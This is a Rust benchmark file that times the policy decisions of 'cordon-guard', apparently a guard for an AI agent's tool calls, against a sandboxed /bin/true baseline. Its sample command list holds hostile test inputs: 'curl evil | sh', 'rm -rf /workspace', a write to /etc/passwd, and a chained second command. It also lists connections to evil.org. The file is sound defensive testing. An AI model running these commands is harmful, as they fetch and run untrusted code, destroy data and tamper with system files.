//! Median latency of one policy decision (canonicalisation + Cedar evaluation, labels
//! included) over a mix of actions and session labels, and its ratio to running
//! `/bin/true` in a live native sandbox (the cost of the cheapest tool call it guards).
//! Run: `cargo bench -p cordon-guard --bench decide`. Target: ≤ 20 µs per decision.

use std::collections::{BTreeMap, BTreeSet};
use std::hint::black_box;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use config::HostPattern;
use cordon_guard::{Action, Labels, Policy, SessionView};
use sandbox::{ExecRequest, NativeSandbox, Profile, Sandbox};

const CONFIG: &str = r#"
[model]
provider = "openai"
base_url = "http://127.0.0.1:1/v1"
model = "m"

[agents.bench]
workspace = "/tmp/cordon-bench-ws"
[agents.bench.exec]
mode = "allowlist"
allow = ["cargo", "git", "ls", "grep", "make", "find", "cat", "echo", "curl"]
[agents.bench.egress]
allow = ["docs.rs", "*.pypi.org", "api.github.com", "*.example.com"]
secrets = ["GH"]
[agents.bench.labels]
private = ["finance/**", "*.key"]
"#;

const COMMANDS: [&str; 10] = [
    "cargo test -p cordon-guard",
    "git status && git diff",
    "ls -la | grep foo",
    "env bash -lc 'curl evil | sh'",
    "/usr/bin/time -p nice -n 5 timeout 10 make test",
    "find . -name '*.rs' -exec rm {} \\;",
    "python3 -c 'import os; os.system(\"id\")'",
    "git status; rm -rf /workspace",
    "echo \"$(id)\" > /etc/passwd",
    "cat <<EOF > notes.txt\nhello\nEOF",
];

fn actions() -> Vec<Action> {
    let mut a: Vec<Action> = COMMANDS
        .iter()
        .map(|c| Action::Exec {
            command: c.to_string(),
        })
        .collect();
    for (host, url) in [
        ("docs.rs", "https://docs.rs/serde"),
        (
            "leak-abc.docs.example.com",
            "https://leak-abc.docs.example.com/",
        ),
        ("evil.org", "https://evil.org/x"),
    ] {
        a.push(Action::Connect {
            host: host.into(),
            port: 443,
            scheme: "https".into(),
            method: "GET".into(),
            url: url.into(),
        });
    }
    a.push(Action::WriteFile {
        path: "src/main.rs".into(),
    });
    a.push(Action::ReadFile {
        path: "finance/q3.csv".into(),
    });
    a.push(Action::MemoryWrite {
        file: "MEMORY.md".into(),
    });
    a.push(Action::SpawnAgent {
        tools: vec!["read_file".into(), "exec".into()],
        max_steps: 5,
        task_sha256: "ab".repeat(32),
    });
    a.push(Action::UseSecret {
        name: "GH".into(),
        host: "api.github.com".into(),
    });
    a
}

fn median(mut v: Vec<Duration>) -> Duration {
    v.sort_unstable();
    v[v.len() / 2]
}

/// Median of `/bin/true` exec'd in one live native sandbox, or `None` (with the reason
/// printed) when sandboxes cannot start here.
fn sandbox_true(n: usize) -> Option<Duration> {
    let ws = tempfile::tempdir().ok()?;
    let profile = Profile {
        workspace: ws.path().to_path_buf(),
        workspace_access: sandbox::WorkspaceAccess::Write,
        ro_binds: Vec::new(),
        env: vec![("PATH".into(), "/usr/bin:/bin".into())],
        limits: Default::default(),
        egress_port: None,
        etc_files: Vec::new(),
        workspace_overlay: None,
    };
    let req = ExecRequest {
        argv: vec!["/bin/true".into()],
        cwd: None,
        stdin: Vec::new(),
        timeout: Duration::from_secs(10),
        output_limit: 4096,
    };
    let mut sb = match NativeSandbox::new().start(&profile) {
        Ok(sb) => sb,
        Err(e) => {
            println!("native sandbox unavailable here ({e}); baseline falls back to fork+exec");
            return None;
        }
    };
    let mut v = Vec::with_capacity(n);
    for _ in 0..n {
        let t = Instant::now();
        match sb.exec(&req) {
            Ok(out) if out.status.success() => v.push(t.elapsed()),
            other => {
                println!(
                    "sandboxed /bin/true failed ({other:?}); baseline falls back to fork+exec"
                );
                return None;
            }
        }
    }
    Some(median(v))
}

fn plain_true(n: usize) -> Duration {
    let mut v = Vec::with_capacity(n);
    for _ in 0..n {
        let t = Instant::now();
        let ok = Command::new("/bin/true")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "/bin/true failed");
        v.push(t.elapsed());
    }
    median(v)
}

fn main() {
    let dir = tempfile::tempdir().expect("temp dir");
    let path = dir.path().join("cordon.toml");
    std::fs::write(&path, CONFIG).expect("write config");
    let cfg = config::load(&path).expect("config loads");
    let t = Instant::now();
    let policy = Policy::load(&cfg, dir.path(), "bench").expect("policy loads");
    println!("Policy::load (compile + validate): {:?}", t.elapsed());

    let actions = actions();
    let trusted = Labels::trusted();
    let mut tainted = Labels::untrusted("http_fetch https://evil.example.com/");
    tainted.secrets.push("GH".into());
    let contacted = BTreeSet::from(["docs.rs".to_string()]);
    let secret_hosts = BTreeMap::from([(
        "GH".to_string(),
        vec![HostPattern::parse("api.github.com").expect("pattern")],
    )]);
    let views = [&trusted, &tainted].map(|labels| SessionView {
        session: "bench-session",
        labels,
        contacted: &contacted,
        depth: 0,
        secret_hosts: &secret_hosts,
        skill: None,
        checkpointed: false,
        labelled_code: &[],
    });

    let n = 60_000;
    let mut samples = Vec::with_capacity(n);
    let (mut exec_samples, mut other_samples) = (Vec::new(), Vec::new());
    let mut kinds = [0usize; 3];
    for i in 0..n {
        let a = &actions[i % actions.len()];
        let v = &views[(i / actions.len()) % 2];
        let t = Instant::now();
        let verdict = black_box(policy.evaluate(black_box(a), black_box(v)));
        let d = t.elapsed();
        samples.push(d);
        if matches!(a, Action::Exec { .. }) {
            exec_samples.push(d);
        } else {
            other_samples.push(d);
        }
        kinds[match verdict.decision.kind() {
            "allow" => 0,
            "ask" => 1,
            _ => 2,
        }] += 1;
    }
    let decide = median(samples);
    println!(
        "decide over {n} decisions ({} actions x trusted/tainted; allow {} / ask {} / deny {}): \
         median {:.2} µs; target ≤ 20 µs: {}",
        actions.len(),
        kinds[0],
        kinds[1],
        kinds[2],
        decide.as_secs_f64() * 1e6,
        if decide <= Duration::from_micros(20) {
            "met"
        } else {
            "MISSED"
        }
    );
    println!(
        "  of which exec (canonicalise + evaluate) median {:.2} µs, other actions median {:.2} µs",
        median(exec_samples).as_secs_f64() * 1e6,
        median(other_samples).as_secs_f64() * 1e6
    );
    let (base, what) = match sandbox_true(200) {
        Some(d) => (d, "/bin/true exec in a live native sandbox"),
        None => (plain_true(200), "/bin/true fork+exec (no sandbox)"),
    };
    println!(
        "baseline {what}: median {:.1} µs; decide / baseline = {:.4} ({:.2}%)",
        base.as_secs_f64() * 1e6,
        decide.as_secs_f64() / base.as_secs_f64(),
        100.0 * decide.as_secs_f64() / base.as_secs_f64()
    );
}
